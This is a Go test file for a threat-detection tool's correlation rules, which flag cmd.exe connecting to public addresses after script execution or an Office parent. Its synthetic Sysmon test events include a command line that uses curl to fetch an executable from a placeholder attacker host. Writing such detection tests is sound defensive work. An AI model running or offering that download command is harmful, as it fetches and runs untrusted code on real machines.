package advisory_test

import (
	"context"
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/vigil-detect/vigil/advisory"
	"github.com/vigil-detect/vigil/alert"
	"github.com/vigil-detect/vigil/correlate"
	"github.com/vigil-detect/vigil/engine"
	"github.com/vigil-detect/vigil/event"
	"github.com/vigil-detect/vigil/hunt"
	"github.com/vigil-detect/vigil/mapping"
)

const (
	script = "Detect Command Prompt Connecting to Internet with Script Execution"
	office = "Detect Command Prompt Network Connection from Office Application"
	cmdExe = `C:\Windows\System32\cmd.exe`
	word   = `C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE`
)

var t0 = time.Date(2026, 3, 4, 9, 15, 0, 0, time.UTC)

// start and conn build Sysmon flat JSON events (1 and 3).
func start(sec float64, guid, image, cmdline, parent string) string {
	return ev(sec, map[string]any{"EventID": 1, "ProcessGuid": guid, "ProcessId": 7212, "Image": image,
		"OriginalFileName": filepath.Base(strings.ReplaceAll(image, `\`, "/")), "CommandLine": cmdline,
		"ParentImage": parent, "ParentProcessGuid": "{P}", "ParentCommandLine": parent})
}

func conn(sec float64, guid, image, ip string) string {
	return ev(sec, map[string]any{"EventID": 3, "ProcessGuid": guid, "ProcessId": 7212, "Image": image,
		"DestinationIp": ip, "DestinationPort": 443, "Protocol": "tcp", "Initiated": "true"})
}

func ev(sec float64, m map[string]any) string {
	m["Channel"] = "Microsoft-Windows-Sysmon/Operational"
	m["Computer"] = "WS1"
	m["@timestamp"] = t0.Add(time.Duration(sec * float64(time.Second))).Format(time.RFC3339Nano)
	b, _ := json.Marshal(m)
	return string(b)
}

type rig struct {
	eng  *engine.Engine
	set  *correlate.Set
	norm *mapping.Normalizer
}

func newRig(t *testing.T) *rig {
	coll, errs := advisory.Rules()
	if len(errs) > 0 {
		t.Fatal(errs)
	}
	// As vigil hunt compiles them: the default log-source and field
	// mappings (Security 4688/5156 and ECS fields become Sigma's).
	tbl := mapping.Default()
	eng, cerrs := engine.Compile(coll.Rules, engine.Options{Mapping: tbl, Fields: tbl.Fields().Names()})
	if len(cerrs) > 0 {
		t.Fatal(cerrs)
	}
	for _, w := range eng.Warnings() {
		t.Errorf("warning: %v", w)
	}
	set, serrs := correlate.Compile(coll.Correlations, coll.Rules)
	if len(serrs) > 0 {
		t.Fatal(serrs)
	}
	norm, err := mapping.NewNormalizer(tbl.Fields(), tbl, eng.Schema())
	if err != nil {
		t.Fatal(err)
	}
	return &rig{eng, set, norm}
}

type collect struct{ alerts []*alert.Alert }

func (c *collect) Write(a *alert.Alert) error { c.alerts = append(c.alerts, a); return nil }
func (c *collect) Close() error               { return nil }

// run hunts over files (each a list of lines) and counts alerts by title.
func (r *rig) run(t *testing.T, files ...[]string) (map[string]int, []*alert.Alert) {
	dir := t.TempDir()
	var paths []string
	for i, lines := range files {
		p := filepath.Join(dir, fmt.Sprintf("f%d.jsonl", i))
		if err := os.WriteFile(p, []byte(strings.Join(lines, "\n")+"\n"), 0o644); err != nil {
			t.Fatal(err)
		}
		paths = append(paths, p)
	}
	en := advisory.NewEnricher()
	var out collect
	_, err := hunt.Run(context.Background(), r.eng, paths, &out, hunt.Options{
		Workers: 2, Correlations: r.set, Enrich: en.Enrich, Identity: en.Identity(), Normalizer: r.norm,
		Context: func(r *engine.Rule) bool { return advisory.IsContextRule(r.Sigma) },
		Observe: func(_ *engine.Rule, e *event.Event) { en.Record(advisory.ProcessOf(e)) },
	})
	if err != nil {
		t.Fatal(err)
	}
	n := map[string]int{}
	for _, a := range out.alerts {
		if a.Rule.Type != "correlation" {
			t.Errorf("detection alert %q: base rules must not alert", a.Rule.Title)
		}
		n[a.Rule.Title]++
	}
	return n, out.alerts
}

func TestScenariosSysmon(t *testing.T) {
	r := newRig(t)
	bat := `cmd.exe /c "C:\Users\jdoe\AppData\Local\Temp\update.bat"`
	g := "{AAAA-1}"
	cases := []struct {
		name           string
		files          [][]string
		script, office int
	}{
		{"bat then public", [][]string{{start(0, g, cmdExe, bat, `C:\Windows\explorer.exe`), conn(3, g, cmdExe, "185.199.110.153")}}, 1, 0},
		{"office parent then public", [][]string{{start(0, g, cmdExe, `cmd /K whoami`, word), conn(5, g, cmdExe, "8.8.8.8")}}, 0, 1},
		{"office and bat", [][]string{{start(0, g, cmdExe, bat, word), conn(1, g, cmdExe, "8.8.8.8")}}, 1, 1},
		{"url upper-case switch", [][]string{{start(0, g, cmdExe, `CMD.EXE /C curl -o x.exe HTTPS://evil.example/x.exe`, `C:\Windows\explorer.exe`), conn(1, g, cmdExe, "93.184.216.34")}}, 1, 0},
		{"ftp and cmd file, no space before switch", [][]string{{start(0, g, cmdExe, `"C:\Windows\system32\cmd.exe"/k run.cmd ftp://x`, ``), conn(1, g, cmdExe, "93.184.216.34")}}, 1, 0},
		{"renamed cmd.exe: start by OriginalFileName, but the connection rule needs the image", [][]string{{ev(0, map[string]any{"EventID": 1, "ProcessGuid": g, "Image": `C:\Temp\renamed.exe`, "OriginalFileName": "Cmd.Exe", "CommandLine": bat, "ParentImage": word}), conn(1, g, `C:\Temp\renamed.exe`, "8.8.8.8")}}, 0, 0},
		{"ipv4-mapped public", [][]string{{start(0, g, cmdExe, bat, ""), conn(1, g, cmdExe, "::ffff:8.8.8.8")}}, 1, 0},
		{"ipv6 public", [][]string{{start(0, g, cmdExe, bat, ""), conn(1, g, cmdExe, "2606:4700:4700::1111")}}, 1, 0},
		{"anycast 192.0.0.9 is global", [][]string{{start(0, g, cmdExe, bat, ""), conn(1, g, cmdExe, "192.0.0.9")}}, 1, 0},
		{"exactly 15 s", [][]string{{start(0, g, cmdExe, bat, word), conn(15, g, cmdExe, "8.8.8.8")}}, 1, 1},
		{"after 15 s", [][]string{{start(0, g, cmdExe, bat, word), conn(15.5, g, cmdExe, "8.8.8.8")}}, 0, 0},
		{"another process", [][]string{{start(0, g, cmdExe, bat, word), conn(1, "{BBBB-2}", cmdExe, "8.8.8.8")}}, 0, 0},
		{"powershell", [][]string{{start(0, g, `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`, `powershell /c C:\x\run.bat`, word), conn(1, g, `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`, "8.8.8.8")}}, 0, 0},
		{"no /c or /k", [][]string{{start(0, g, cmdExe, `cmd.exe C:\x\run.bat`, word), conn(1, g, cmdExe, "8.8.8.8")}}, 0, 0},
		{"/c without script or url", [][]string{{start(0, g, cmdExe, `cmd.exe /c dir`, `C:\Windows\explorer.exe`), conn(1, g, cmdExe, "8.8.8.8")}}, 0, 0},
		{"connection before start", [][]string{{conn(0, g, cmdExe, "8.8.8.8"), start(1, g, cmdExe, bat, word)}}, 0, 0},
		{"several connections", [][]string{{start(0, g, cmdExe, bat, word), conn(1, g, cmdExe, "8.8.8.8"), conn(2, g, cmdExe, "8.8.4.4"), conn(3, g, cmdExe, "1.1.1.1")}}, 1, 1},
		{"newest first", [][]string{{conn(3, g, cmdExe, "1.1.1.1"), conn(2, g, cmdExe, "8.8.4.4"), start(0, g, cmdExe, bat, word)}}, 1, 1},
		{"separate files, connection file first", [][]string{{conn(2, g, cmdExe, "8.8.8.8")}, {start(0, g, cmdExe, bat, word)}}, 1, 1},
	}
	private := []string{"10.1.2.3", "127.0.0.1", "169.254.1.1", "172.16.5.5", "172.31.255.255", "192.168.1.1", "100.64.0.1",
		"192.0.0.1", "192.0.2.5", "198.18.0.1", "198.19.255.1", "198.51.100.7", "203.0.113.9", "192.88.99.1", "192.175.48.1",
		"192.31.196.1", "192.52.193.1", "224.0.0.251", "239.255.255.250", "240.0.0.1", "0.0.0.0", "255.255.255.255",
		"::1", "::", "fe80::1", "fe80::1%12", "fc00::1", "fd12:3456::1", "ff02::1", "2001:db8::1", "::ffff:10.0.0.1",
		"::ffff:192.168.0.1", "::ffff:127.0.0.1", "not-an-ip", ""}
	for _, ip := range private {
		cases = append(cases, struct {
			name           string
			files          [][]string
			script, office int
		}{"special " + ip, [][]string{{start(0, g, cmdExe, bat, word), conn(1, g, cmdExe, ip)}}, 0, 0})
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			n, alerts := r.run(t, c.files...)
			if n[script] != c.script || n[office] != c.office {
				t.Errorf("script %d office %d, want %d %d", n[script], n[office], c.script, c.office)
			}
			for _, a := range alerts {
				if a.Advisory != "VIGIL-2026-0001" || a.Context["process_guid"] != g || a.Group["Computer"] != "WS1" || a.Group["ProcessId"] != "7212" || a.Rule.Level != "medium" {
					t.Errorf("alert %s: advisory %q group %v guid %v level %s", a.Rule.Title, a.Advisory, a.Group, a.Context["process_guid"], a.Rule.Level)
				}
			}
		})
	}
}

// TestAncestry checks that earlier process starts show up as the ancestry
// of an alert, nearest first, and later ones do not.
func TestAncestry(t *testing.T) {
	r := newRig(t)
	lines := []string{
		ev(0, map[string]any{"EventID": 1, "ProcessGuid": "{EXPLORER}", "Image": `C:\Windows\explorer.exe`, "CommandLine": "explorer.exe"}),
		ev(1, map[string]any{"EventID": 1, "ProcessGuid": "{WORD}", "ParentProcessGuid": "{EXPLORER}", "Image": word, "CommandLine": "winword.exe doc.docm"}),
		ev(2, map[string]any{"EventID": 1, "ProcessGuid": "{CMD}", "ParentProcessGuid": "{WORD}", "Image": cmdExe, "CommandLine": "cmd.exe /c a.bat", "ParentImage": word}),
		conn(3, "{CMD}", cmdExe, "8.8.8.8"),
	}
	_, alerts := r.run(t, lines)
	if len(alerts) != 2 {
		t.Fatalf("%d alerts, want 2", len(alerts))
	}
	anc, ok := alerts[0].Context["ancestry"].([]advisory.Process)
	if !ok || len(anc) != 2 || anc[0].GUID != "{WORD}" || anc[1].GUID != "{EXPLORER}" {
		t.Errorf("ancestry %+v", alerts[0].Context["ancestry"])
	}
	if alerts[0].Context["command_line"] != "cmd.exe /c a.bat" || alerts[0].Context["parent_image"] != word {
		t.Errorf("context %v", alerts[0].Context)
	}
	if !slices.ContainsFunc(alerts, func(a *alert.Alert) bool { return a.Rule.Title == script }) {
		t.Error("no script alert")
	}
}
